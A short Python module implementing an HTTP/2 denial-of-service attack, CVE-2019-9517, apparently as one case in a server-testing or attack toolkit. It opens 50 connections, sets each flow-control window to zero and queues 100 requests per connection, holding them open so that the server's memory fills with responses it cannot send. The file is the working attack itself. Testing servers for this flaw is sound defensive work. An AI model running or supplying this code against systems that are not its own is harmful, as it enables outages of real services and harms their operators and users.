"""Downloads into windows of no bytes, 100 on each of 50 connections, held open (RFC 9113, 10.5; CVE-2019-9517)."""

from wire.http2 import INITIAL_WINDOW, ask, http2, settings


async def attack(target):
    async def each(number):
        async with http2(target, target.source(number % 10), first=settings((INITIAL_WINDOW, 0))) as it:
            if it:
                await it.send(b"".join(ask(2 * n + 1) for n in range(100)))
                await target.over()

    await target.once(50, each)
